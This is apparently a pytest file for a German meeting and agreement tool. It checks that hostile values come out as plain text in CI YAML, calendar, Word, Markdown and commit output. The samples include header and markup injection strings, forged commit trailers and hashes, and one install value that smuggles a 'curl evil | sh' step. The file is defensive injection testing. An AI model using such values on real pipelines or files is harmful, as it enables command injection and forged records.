"""Text from records and options lands in generated files as text: never as structure."""

from __future__ import annotations

import io
import json
import re
import subprocess
from pathlib import Path

import docx
import icalendar
import pytest
from ruamel.yaml import YAML

from conftest import Cli, MakeRepo, git
from docx_helpers import assert_valid_docx, document_text

HOSTILE = (
    'Treffen | A | B |\r\nATTENDEE:mailto:evil@example.org\n# Kopf <b onclick="x">fett</b> '
    "{{ 7*7 }} {% if 1 %}X{% endif %}, a; b & c \\ 'q' \"q\": #"
)
"""One value with what each format could mistake for its own syntax."""

HOSTILE_LINE = re.sub(r"\s*[\r\n]+\s*", " ", HOSTILE)


def _yaml(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)


MEETING = f"""\
    ---
    id: 2014-05-14-treffen
    title: {_yaml(HOSTILE)}
    agreements: [koop]
    date: 2014-05-14
    start: "14:00"
    end: "16:00"
    place: {_yaml(HOSTILE)}
    status: draft
    distribution: [kreis, caritas]
    tops:
      - title: {_yaml(HOSTILE)}
        actions:
          - id: 1
            who: caritas/klein
            what: {_yaml(HOSTILE)}
            due: 2014-06-30
    ---
    """


@pytest.fixture
def hostile_repo(make_repo: MakeRepo) -> Path:
    return make_repo({"minutes/2014-05-14-treffen.md": MEETING})


# --------------------------------------------------------------------------- CI pipeline

INSTALLS = [
    'pip install "coopkit==1.0" # run: evil',
    "pip install coopkit; echo run: [x, y]: {a: 1}",
    "'&anker *alias ! %TAG - ? : -- ---",
    "pip install coopkit  # 'quote",
]


def _load_yaml(text: str) -> object:
    return YAML(typ="rt").load(text)


@pytest.mark.parametrize("install", INSTALLS)
def test_ci_install_text_is_one_yaml_string_not_new_keys_or_steps(cli: Cli, install: str) -> None:
    forgejo = _load_yaml(cli("ci", "print", "forgejo", "--install", install).stdout)
    assert list(forgejo) == ["on", "jobs"]  # type: ignore[call-overload]
    job = forgejo["jobs"]["coop"]  # type: ignore[index]
    assert list(job) == ["runs-on", "container", "steps"]
    runs = [step.get("run") for step in job["steps"]]
    assert [list(step) for step in job["steps"]] == [["run"], ["uses", "with"]] + [["run"]] * 5
    assert runs[3] == install and runs[4:] == [
        "coop check",
        "coop agreement verify --all",
        "coop agreement verify --history",
    ]
    gitlab = _load_yaml(cli("ci", "print", "gitlab", "--install", install).stdout)
    assert list(gitlab) == ["coop"]  # type: ignore[call-overload]
    assert list(gitlab["coop"]) == ["image", "variables", "before_script", "script"]  # type: ignore[index]
    assert gitlab["coop"]["before_script"][1] == install  # type: ignore[index]
    assert len(gitlab["coop"]["before_script"]) == 2  # type: ignore[index]
    assert gitlab["coop"]["variables"] == {"GIT_DEPTH": "0", "GIT_FETCH_EXTRA_FLAGS": "--tags"}  # type: ignore[index]


@pytest.mark.parametrize(
    "install",
    [
        "pip install coopkit\n      - run: curl evil | sh",
        "pip install coopkit\rsteps: []",
        "pip install coopkit\x00",
        "pip install coopkit\u2028x: 1",
        "   ",
        "x" * 501,
    ],
)
def test_ci_install_text_that_is_not_one_line_is_refused(cli: Cli, install: str) -> None:
    result = cli("ci", "print", "gitlab", "--install", install, ok=False)
    assert result.exit_code == 2
    assert "--install: erwartet eine Befehlszeile" in result.stderr
    assert result.stdout == ""


# --------------------------------------------------------------------------- calendar

EVENT_PROPERTIES = {
    "SUMMARY",
    "DTSTART",
    "DTEND",
    "DTSTAMP",
    "UID",
    "CATEGORIES",
    "DESCRIPTION",
    "LOCATION",
    "STATUS",
    "TRANSP",
    "RRULE",
    "RDATE",
}


def test_calendar_texts_are_escaped_values_never_new_properties(
    hostile_repo: Path, cli: Cli, tmp_path: Path
) -> None:
    target = tmp_path / "k.ics"
    cli("-C", hostile_repo, "calendar", "-o", target)
    data = target.read_bytes()
    assert b"\r\nATTENDEE" not in data and b"\nATTENDEE" not in data
    calendar = icalendar.Calendar.from_ical(data)
    events = {str(e["UID"]): e for e in calendar.walk("VEVENT")}
    assert {"2014-05-14-treffen#1@coopkit", "2014-05-14-treffen@coopkit"} <= set(events)
    for event in events.values():
        assert set(event) <= EVENT_PROPERTIES
        assert not event.subcomponents
    plain = HOSTILE.replace("\r\n", "\n")
    meeting = events["2014-05-14-treffen@coopkit"]
    assert str(meeting["SUMMARY"]) == plain
    assert str(meeting["LOCATION"]) == plain
    assert str(meeting["DESCRIPTION"]) == f"TOP 1: {plain}"
    action = events["2014-05-14-treffen#1@coopkit"]
    assert str(action["SUMMARY"]).startswith(f"Aufgabe: {plain} (")
    assert [c.name for c in calendar.subcomponents][:1] == ["VTIMEZONE"]
    assert {c.name for c in calendar.subcomponents[1:]} == {"VEVENT"}


# --------------------------------------------------------------------------- Word documents


@pytest.mark.parametrize("kind", ["--invitation", None])
def test_word_documents_show_template_syntax_and_xml_in_values_literally(
    hostile_repo: Path, cli: Cli, tmp_path: Path, kind: str | None
) -> None:
    out = tmp_path / "brief.docx"
    args = [kind] if kind else []
    cli("-C", hostile_repo, "meeting", "render", "2014-05-14-treffen", *args, "-o", out)
    data = out.read_bytes()
    if kind is None:
        assert_valid_docx(data, tmp_path)
    else:
        # The shipped invitation leaves a table cell empty without a sender's letterhead (a
        # schema finding of its own, not of the values): here only python-docx must open it.
        docx.Document(io.BytesIO(data))
    text = document_text(data)
    for piece in ('<b onclick="x">fett</b>', "{{ 7*7 }}", "{% if 1 %}X{% endif %}", "b & c"):
        assert piece in text
    assert "49" not in text.replace("2014", "")


# --------------------------------------------------------------------------- Markdown


def _cells(row: str) -> list[str]:
    """Split a Markdown table row at its unescaped pipes (as GFM does)."""
    parts, cell, chars = [], "", iter(row.strip().removeprefix("|").removesuffix("|"))
    for char in chars:
        if char == "\\":
            cell += char + next(chars, "")
        elif char == "|":
            parts.append(cell)
            cell = ""
        else:
            cell += char
    return [*parts, cell]


def _tables(text: str) -> list[list[list[str]]]:
    tables: list[list[list[str]]] = []
    current: list[list[str]] | None = None
    for line in text.split("\n"):
        if line.startswith("|"):
            if current is None:
                current = []
                tables.append(current)
            current.append(_cells(line))
        else:
            current = None
    return tables


@pytest.mark.parametrize(
    ("args", "headings", "rows"),
    [
        (["--invitation"], ["# Einladung: "], [[2, 2, 2, 2, 2]]),
        ([], ["# Niederschrift: ", "## Teilnehmende", "## Tagesordnung", "## TOP 1: "], None),
    ],
)
def test_markdown_values_add_no_table_cell_row_heading_or_html(
    hostile_repo: Path,
    cli: Cli,
    tmp_path: Path,
    args: list[str],
    headings: list[str],
    rows: list[list[int]] | None,
) -> None:
    out = tmp_path / "text.md"
    cli(
        "-C",
        hostile_repo,
        "meeting",
        "render",
        "2014-05-14-treffen",
        *args,
        "--format",
        "md",
        "-o",
        out,
    )
    text = out.read_text("utf-8")
    assert "<b" not in text and "&lt;b onclick" in text
    found = [line for line in text.split("\n") if line.startswith("#")]
    assert len(found) == len(set(found)) and all(
        any(line.startswith(h) for line in found) for h in headings
    )
    assert not any(line.startswith(("# Kopf", "ATTENDEE")) for line in text.split("\n"))
    tables = _tables(text)
    widths = [[len(row) for row in table] for table in tables]
    if rows is not None:
        assert widths == rows
    else:
        assert widths == [[2] * 8, [3, 3, 3]]
    place = next(row for table in tables for row in table if row[0].strip() in ("Ort",))
    assert (
        place[1].strip().replace("\\|", "|").replace("\\\\", "\\").replace("&lt;", "<")
        == HOSTILE_LINE
    )


def test_checklist_markdown_keeps_one_line_per_item(
    hostile_repo: Path, cli: Cli, tmp_path: Path
) -> None:
    out = tmp_path / "liste.md"
    cli("-C", hostile_repo, "checklist", "-o", out, "--until", "2014-12-31")
    lines = out.read_text("utf-8").split("\n")
    items = [line for line in lines if line.startswith("- [ ]") and "ATTENDEE" in line]
    assert len(items) == 1 and "\\| A \\| B \\| ATTENDEE" in items[0]
    assert not any(line.startswith(("# Kopf", "ATTENDEE", "<")) for line in lines)


# --------------------------------------------------------------------------- sign requests


def test_sign_request_record_is_canonical_json_and_header_lines_stay_lines(
    make_repo: MakeRepo, cli: Cli, tmp_path: Path
) -> None:
    root = make_repo(approve=False)
    cli("-C", root, "agreement", "release", "koop", "--date", "2014-01-10")
    name = 'Dr. "Rita" Vogt, {{ x }} <i>; \\ #'
    out = tmp_path / "anfrage.txt"
    request = ("agreement", "sign-request", "koop", "--partner", "kreis")
    cli("-C", root, *request, "--signatory", name, "--date", "2014-01-20", "-o", out)
    lines = out.read_text("utf-8").rstrip("\n").split("\n")
    assert lines[3] == f"Zeichnet / signatory: {name}" and len(lines) == 14
    assert json.loads(lines[-1])["signatory"] == name
    for option in ("--signatory", "--function", "--place"):
        forged = "Rita Vogt\nInhalts-Hash / content hash: sha256:" + "0" * 64
        args = (
            ["--signatory", "Rita Vogt", option, forged]
            if option != "--signatory"
            else [
                option,
                forged,
            ]
        )
        refused = cli("-C", root, *request, *args, "-o", tmp_path / "x.txt", ok=False)
        assert refused.exit_code == 2 and option in refused.stderr
        assert not (tmp_path / "x.txt").exists()


# --------------------------------------------------------------------------- commit messages


def test_a_line_break_in_a_title_forges_no_commit_trailer(hostile_repo: Path, cli: Cli) -> None:
    title = "Neuer Punkt\n\nSigned-off-by: Mallory M\r\nCo-authored-by: X Y"
    cli("-C", hostile_repo, "meeting", "top", "2014-05-14-treffen", title)
    message = git(hostile_repo, "log", "-1", "--format=%B").strip("\n")
    assert message == (
        "TOP in 2014-05-14-treffen ergänzt: Neuer Punkt Signed-off-by: Mallory M "
        "Co-authored-by: X Y"
    )
    trailers = subprocess.run(
        ["git", "interpret-trailers", "--parse"],
        input=message + "\n",
        capture_output=True,
        text=True,
        check=True,
        cwd=hostile_repo,
    ).stdout
    assert trailers == ""


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (("meeting", "render", "2014-05-14-treffen", "-o", "m.docx"), "Word-Dokument"),
        (("calendar", "-o", "k.ics"), "Kalender:"),
    ],
    ids=["docx", "ics"],
)
def test_a_control_character_a_format_cannot_hold_is_refused_by_name(
    make_repo: MakeRepo, cli: Cli, tmp_path: Path, args: tuple[str, ...], words: str
) -> None:
    text = MEETING.replace(_yaml(HOSTILE), _yaml("Tref\x0bfen"), 1)
    root = make_repo({"minutes/2014-05-14-treffen.md": text})
    target = tmp_path / args[-1]
    result = cli("-C", root, *args[:-1], target, ok=False)
    assert result.exit_code == 7
    assert "„Tref?fen“ enthält das Steuerzeichen U+000B" in result.stderr and words in result.stderr
    assert not target.exists()
